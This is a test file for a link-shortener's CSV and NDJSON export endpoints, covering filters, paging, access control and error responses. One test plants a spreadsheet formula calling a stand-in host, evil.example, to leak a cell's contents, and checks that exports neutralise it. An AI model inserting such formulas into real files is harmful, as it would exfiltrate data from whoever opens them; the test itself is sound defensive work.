// Exports on real Postgres: GET /urls/export.csv with GET /urls's filters, across pages, as CSV a
// spreadsheet cannot turn into formulas and as NDJSON; GET /urls/{id}/clicks.csv with hostile
// visitor-controlled cells; who may export what; and every 400.
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { afterAll, describe, expect, it } from "vitest";
import { URL_EXPORT_PAGE_SIZE } from "../../worker/services/exports/url-export";
import {
  callApi,
  callWorker,
  countCalls,
  createUrl,
  createUser,
  DEAD_DATABASE,
  keyedUser,
  openTestDatabase,
  scrapePrometheus,
  seriesValue,
  unique,
} from "../harness";

const database = openTestDatabase();
afterAll(() => database.close());

/** The export's records as objects by column, after checking the download's headers. */
async function exportCsv(query: string) {
  const answer = await callApi("GET", `/urls/export.csv?${query}`);
  expect(answer.status, String(answer.body)).toBe(200);
  expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(answer.headers.get("Content-Disposition")).toMatch(
    /^attachment; filename="linkscope-urls-\d{4}-\d\d-\d\d\.csv"$/,
  );
  return { text: answer.body as string, records: parse(answer.body, { columns: true }) as Record<string, string>[] };
}

describe("GET /urls/export.csv", () => {
  it("exports the filtered links with every column; hostile titles come out as text", async () => {
    const owner = (await createUser()).id;
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const hostile = await createUrl({ user_id: owner, title: formula, tags: ["promo", "q4"] });
    const minus = await createUrl({ user_id: owner, title: "-2+3", tags: ["promo"] });
    const quoted = await createUrl({ user_id: owner, title: 'He said "hi", then\nleft', max_clicks: 5 });
    const { text, records } = await exportCsv(`user_id=${owner}`);
    expect(text.split("\r\n")[0]).toBe(
      "id,short_code,domain,short_url,original_url,title,tags,user_id,is_active,state,clicks,imported_clicks,created_at,updated_at,valid_since,expires_at,max_clicks,expired_url,fallback_url,query_forwarding,utm,rules,password_protected,health_state",
    );
    expect(records.map((record) => Number(record.id))).toEqual([hostile.id, minus.id, quoted.id]);
    const [first, second, third] = records;
    // Every cell a spreadsheet would evaluate starts with an apostrophe; nothing else changed.
    expect(first?.title).toBe(`'${formula}`);
    expect(second?.title).toBe("'-2+3");
    expect(third?.title).toBe('He said "hi", then\nleft');
    expect(first?.tags).toBe("promo|q4");
    expect(first?.short_url).toMatch(new RegExp(`^https?://[^/]+/${hostile.short_code}$`));
    expect(third).toMatchObject({
      max_clicks: "5",
      clicks: "0",
      is_active: "true",
      state: "active",
      user_id: String(owner),
    });
    expect(Date.parse(third?.created_at ?? "")).not.toBeNaN();
    // No cell of the file starts a formula once parsed.
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    // The same filters as GET /urls.
    expect((await exportCsv(`user_id=${owner}&tag=promo&exclude_tag=q4`)).records.map((r) => Number(r.id))).toEqual([
      minus.id,
    ]);
    expect((await exportCsv(`user_id=${owner}&q=said`)).records.map((r) => Number(r.id))).toEqual([quoted.id]);
  });

  it("streams past one page, in id order, each link once (NDJSON lines are what GET /urls/{id} answers)", async () => {
    const owner = (await createUser()).id;
    const count = URL_EXPORT_PAGE_SIZE + 150;
    const prefix = unique("bulk").replaceAll("_", "-");
    await database.db.execute(
      `INSERT INTO urls (short_code, original_url, user_id)
       SELECT '${prefix}-' || n, 'https://example.com/' || n, ${owner} FROM generate_series(1, ${count}) AS n`,
    );
    const rowsSeries = 'linkscope_export_rows_total{export="urls",format="csv"}';
    const completeSeries = 'linkscope_exports_total{export="urls",format="csv",result="complete"}';
    // Read lazily: a client that takes the header and goes away has cost the first page only.
    const partial = countCalls();
    const { response, settled } = await callWorker(`/urls/export.csv?user_id=${owner}`);
    const reader = response.body?.getReader();
    await reader?.read();
    await reader?.cancel();
    await settled();
    expect(partial().postgres).toBe(1);
    const before = await scrapePrometheus();
    const whole = countCalls();
    const { records } = await exportCsv(`user_id=${owner}`);
    // One query a page: a full page of 2,000, then the last 150.
    expect(whole().postgres).toBe(2);
    // A request after the export carries the isolate's counts to the metrics shards.
    await callApi("GET", "/urls/1");
    const after = await scrapePrometheus();
    expect(seriesValue(after, rowsSeries) - seriesValue(before, rowsSeries, 0)).toBe(count);
    expect(seriesValue(after, completeSeries) - seriesValue(before, completeSeries, 0)).toBe(1);
    const ids = records.map((record) => Number(record.id));
    expect(ids).toHaveLength(count);
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(ids).size).toBe(count);
    const ndjson = await callApi("GET", `/urls/export.csv?user_id=${owner}&format=ndjson`);
    expect(ndjson.headers.get("Content-Type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = (ndjson.body as string).trimEnd().split("\n");
    expect(lines).toHaveLength(count);
    const last = JSON.parse(lines.at(-1) ?? "{}");
    expect(last).toEqual((await callApi("GET", `/urls/${last.id}`)).body);
  });

  it("a user's key exports its own links only; another user's user_id exports none", async () => {
    const { key, overrides: production } = await keyedUser();
    const mine = await callApi("POST", "/urls", {
      key,
      body: { original_url: "https://example.com/mine" },
      overrides: production,
    });
    const other = (await createUser()).id;
    await createUrl({ user_id: other });
    const own = await callApi("GET", "/urls/export.csv?format=ndjson", { key, overrides: production });
    expect(
      (own.body as string)
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual([mine.body.id]);
    const foreign = await callApi("GET", `/urls/export.csv?user_id=${other}`, { key, overrides: production });
    expect(foreign.status).toBe(200);
    expect(parse(foreign.body, { columns: true })).toEqual([]);
    expect((await callApi("GET", "/urls/export.csv", { overrides: production })).status).toBe(401);
  });

  it("answers a bad filter or format with a 400, and a database that is down with JSON, not half a file", async () => {
    for (const [query, message] of [
      ["format=xlsx", "format must be csv or ndjson"],
      ["tag=a%7Cb", "tag:"],
      ["state=gone", "state must be one of"],
      ["created_from=yesterday", "created_from must be"],
      ["q=", "q must be 1 to 200"],
    ]) {
      const answer = await callApi("GET", `/urls/export.csv?${query}`);
      expect(answer.status, query).toBe(400);
      expect(answer.body.error).toContain(message);
    }
    const down = await callApi("GET", "/urls/export.csv", { overrides: DEAD_DATABASE });
    expect(down.status).toBe(503);
    expect(down.headers.get("Content-Type")).toContain("application/json");
  });
});

describe("GET /urls/{id}/clicks.csv", () => {
  async function addClick(
    urlId: number,
    at: string,
    fields: { class?: string; referrer?: string; country?: string; browser?: string; os?: string },
  ) {
    await database.db.execute(
      sql`INSERT INTO clicks (id, url_id, clicked_at, referrer_host, country, device_class, browser, os, click_class,
                              is_unique)
          VALUES (${crypto.randomUUID()}, ${urlId}, ${at}, ${fields.referrer ?? null}, ${fields.country ?? null},
                  'desktop', ${fields.browser ?? null}, ${fields.os ?? null}, ${fields.class ?? "human"}, true)`,
    );
  }

  it("exports a window of clicks oldest first; a referrer host like -2+3 comes out as text", async () => {
    const owner = (await createUser()).id;
    const target = await createUrl({ user_id: owner });
    // new URL("http://-2+3/").hostname is "-2+3": a visitor chooses this cell.
    await addClick(target.id, "2026-03-01T10:00:00Z", {
      referrer: new URL("http://-2+3/").hostname,
      country: "DE",
      browser: "firefox",
      os: "macos",
    });
    await addClick(target.id, "2026-03-02T10:00:00Z", { referrer: "@evil.example", class: "bot" });
    await addClick(target.id, "2026-04-01T10:00:00Z", { referrer: "news.example" });
    const answer = await callApi("GET", `/urls/${target.id}/clicks.csv?from=2026-03-01&to=2026-04-01`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get("Content-Disposition")).toContain(`linkscope-url-${target.id}-clicks-`);
    // New columns come last, so a reader by position keeps working.
    expect((answer.body as string).split("\r\n")[0]).toBe(
      "id,clicked_at,class,unique,device,country,referrer_host,source,rule,variant,browser,os",
    );
    const records = parse(answer.body, { columns: true }) as Record<string, string>[];
    expect(records.map((record) => [record.clicked_at, record.class, record.referrer_host, record.country])).toEqual([
      ["2026-03-01T10:00:00.000000Z", "human", "'-2+3", "DE"],
      ["2026-03-02T10:00:00.000000Z", "bot", "'@evil.example", ""],
    ]);
    expect(records[0]).toMatchObject({ unique: "true", device: "desktop", browser: "firefox", os: "macos" });
    // Not recorded (Global Privacy Control, an older click): empty cells.
    expect(records[1]).toMatchObject({ browser: "", os: "" });
    const humans = await callApi("GET", `/urls/${target.id}/clicks.csv?class=human&format=ndjson`);
    const lines = (humans.body as string)
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines.map((line) => line.referrer_host)).toEqual(["-2+3", "news.example"]);
    expect(lines.map((line) => [line.browser, line.os])).toEqual([
      ["firefox", "macos"],
      [null, null],
    ]);
  });

  it("answers 400 for a bad window, class or format and 404 for no such link", async () => {
    const target = await createUrl({ user_id: (await createUser()).id });
    for (const [query, message] of [
      ["from=2026-05-01&to=2026-04-01", "from must be before to"],
      ["from=nope", "from must be"],
      ["class=robot", "class must be one of"],
      ["format=json", "format must be csv or ndjson"],
      ["limit=5", "unknown field"],
    ]) {
      const answer = await callApi("GET", `/urls/${target.id}/clicks.csv?${query}`);
      expect(answer.status, query).toBe(400);
      expect(answer.body.error).toContain(message);
    }
    expect((await callApi("GET", "/urls/2000000000/clicks.csv")).status).toBe(404);
  });
});
